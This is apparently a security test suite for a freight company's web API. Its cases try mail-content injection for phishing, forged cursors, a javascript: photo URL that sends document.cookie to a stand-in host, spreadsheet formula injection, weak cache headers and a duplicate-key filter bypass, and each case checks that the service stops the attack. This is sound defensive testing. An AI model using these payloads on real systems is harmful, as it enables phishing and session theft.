import { createHash } from 'node:crypto';
import { type Attack, BEFORE } from './support/attack';
import { must, mustHold, textAt } from './support/http';
import { tripPaid } from './support/payments';
import { ADDRESS, type Person, type Team, type World } from './support/world';

/** Renames the attacker, and invites a stranger to the attacker’s team. Answers the mail that the stranger gets. */
async function mailOfInvitation(world: World, { teamId, owner }: Team, name: string, teamName: string) {
  const to = `${world.unique('m')}@fletes.mx`;
  await must(200, owner.send('PUT /users/me', { name }));
  await must(200, owner.send(`PUT /teams/${teamId}`, { name: teamName }));
  await must(200, owner.send(`POST /teams/${teamId}/invitations`, { invites: [to] }));
  const [mail] = await world.mails(to);
  if (mail === undefined) throw new Error('no mail was sent');
  return mail;
}

/** Rules 17 to 21 and 27: texts that other programs read. */
export const texts: readonly Attack[] = [
  {
    name: 'link-in-our-mail',
    goal: 'Put the address of a fraud into a mail that the operator sends, as a name that mail programs turn into a link.',
    rule: 17,
    seenAt: BEFORE.doors,
    stop: 'the mail has no link',
    play: async (world) => {
      const team = await world.team();
      const mail = await mailOfInvitation(world, team, 'Pagos 1.1.1.1/x', 'premios\u2024example');
      const whole = `${mail.subject} ${mail.text}`;
      return {
        reached: /1\.1\.1\.1|premios.example/u.test(whole.normalize('NFKC')),
        stop: 'the mail has no link',
        rightful: async () => {
          const { text } = await mailOfInvitation(world, team, 'José Peña', 'Fletes S.A. de C.V.');
          mustHold(text.includes('José Peña') && text.includes('Fletes S.A. de C.V.'), text);
        },
      };
    },
  },
  {
    name: 'choose-our-subject',
    goal: 'Choose the subject of a mail that the operator sends to a stranger.',
    rule: 17,
    seenAt: BEFORE.doors,
    stop: 'the subject is the operator’s',
    play: async (world) => {
      const team = await world.team();
      const { subject } = await mailOfInvitation(world, team, 'Su cuenta vence hoy', 'Banco del Norte');
      return {
        reached: /vence|Banco/.test(subject),
        stop: 'the subject is the operator’s',
        rightful: async () => {
          const other = await mailOfInvitation(world, team, 'José Peña', 'Fletes del Norte');
          mustHold(other.subject === subject && subject.length > 0, other.subject);
        },
      };
    },
  },
  {
    name: 'number-in-our-mail',
    goal: 'Let the operator’s mail ask strangers to call the attacker’s number.',
    rule: 17,
    seenAt: BEFORE.doors,
    stop: 'the mail has no number',
    play: async (world) => {
      const team = await world.team();
      const mail = await mailOfInvitation(world, team, 'Llame al 8115550000', 'Cobranza código 123456');
      return {
        reached: /8115550000|123456/.test(`${mail.subject} ${mail.text}`),
        stop: 'the mail has no number',
        rightful: async () => {
          const { text } = await mailOfInvitation(world, team, 'José Peña', 'Fletes 2000');
          mustHold(text.includes('Fletes 2000'), text);
        },
      };
    },
  },
  {
    name: 'forge-a-cursor',
    goal: 'Reach the table with a position of the attacker’s own, in a cursor whose check the attacker computes.',
    rule: 18,
    seenAt: BEFORE.doors,
    stop: '400 VALIDATION_FAILED cursor',
    play: async (world) => {
      const { teamId, owner } = await world.team();
      const list = (cursor = '') =>
        owner.send(`GET /clients?teamId=${teamId}&limit=1${cursor === '' ? '' : `&cursor=${cursor}`}`);
      for (const name of ['Acero', 'Bronce']) await must(201, owner.send('POST /clients', { teamId, name }));
      const real = textAt((await must(200, list())).body, 'nextCursor');
      const forged = forgeries(teamId).map((position) => list(position));
      const answers = await Promise.all(forged);
      const taken = answers.find(({ status }) => status !== 400);
      const [first] = answers;
      return {
        reached: taken !== undefined,
        stop: taken ?? first ?? 'nothing was sent',
        rightful: async () => must(200, list(real)),
      };
    },
  },
  {
    name: 'script-as-a-photograph',
    goal: 'Run a script in the browser of a colleague who opens the attacker’s photograph.',
    rule: 19,
    seenAt: BEFORE.smallFindings,
    stop: '400 VALIDATION_FAILED photoUrl',
    play: async (world) => {
      const person = await world.person();
      const set = (photoUrl: string) => person.send('PUT /users/me', { photoUrl });
      const answer = await set('javascript:fetch("https://premios.example/"+document.cookie)');
      return {
        reached: (await must(200, person.send('GET /users/me'))).text.includes('javascript:'),
        stop: answer,
        rightful: async () => {
          await must(200, set('https://fotos.example/ana.png'));
          mustHold((await person.send('GET /users/me')).body.photoUrl === 'https://fotos.example/ana.png', 'no photo');
        },
      };
    },
  },
  {
    name: 'formula-in-a-report',
    goal: 'Run a formula in the accountant’s spreadsheet, by a client’s name that opens a second cell.',
    rule: 20,
    seenAt: BEFORE.smallFindings,
    stop: 'the name stays in one cell',
    play: async (world) => {
      const team = await world.team();
      const name = 'Aceros;=2+5';
      await tripPaid(world, team, name);
      const route = `GET /teams/${team.teamId}/reports/income?groupBy=client`;
      const { text } = await must(200, readTable(world, team.owner, route));
      return {
        reached: text.includes('Aceros;=') && !text.includes('"Aceros;='),
        stop: 'the name stays in one cell',
        rightful: async () => mustHold(text.includes('"Aceros;=2+5"'), text),
      };
    },
  },
  {
    name: 'tokens-in-a-shared-cache',
    goal: 'Read the victim’s tokens in the cache of a proxy or a shared browser.',
    rule: 21,
    seenAt: BEFORE.smallFindings,
    stop: 'no-store',
    play: async (world) => {
      const { signedIn, send } = await world.person();
      const directive = String(signedIn.headers['cache-control'] ?? '');
      return {
        reached: !directive.includes('no-store'),
        stop: directive,
        rightful: async () => {
          const { headers } = await must(200, send('GET /openapi.json'));
          mustHold(!String(headers['cache-control'] ?? '').includes('no-store'), 'the document is not cacheable');
        },
      };
    },
  },
  {
    name: 'key-named-twice',
    goal: 'Pass a value by a filter in front of the service, in a body that names one key twice.',
    rule: 27,
    seenAt: BEFORE.smallFindings,
    stop: '400 VALIDATION_FAILED body',
    play: async (world) => {
      const owner = await world.person();
      const make = (body: string) => world.send('POST /teams', { token: owner.token, body });
      const rest = `"address":${JSON.stringify(ADDRESS)}`;
      const answer = await make(`{"name":"Fletes del Norte","n\\u0061me":"Nombre prohibido",${rest}}`);
      const { text } = await must(200, owner.send('GET /teams'));
      return {
        reached: text.includes('Nombre prohibido'),
        stop: answer,
        rightful: async () => must(201, make(`{"name":"Fletes del Norte",${rest}}`)),
      };
    },
  },
];

const readTable = (world: World, { token }: Person, route: string) =>
  world.send(route, { token, headers: { accept: 'text/csv' } });

/** Cursors of the published algorithm with positions that no page ends with: another kind of record, and none at all. */
function forgeries(teamId: string): string[] {
  const list = [`TEAM#${teamId}`, 'CLIENT#', null, null];
  return ['INVITATION#', 'A', 'CLIENT#zzzz'].map((position) => {
    const digest = createHash('sha256')
      .update(JSON.stringify([list, position]))
      .digest('base64url')
      .slice(0, 22);
    return Buffer.from(`${digest}${position}`).toString('base64url');
  });
}
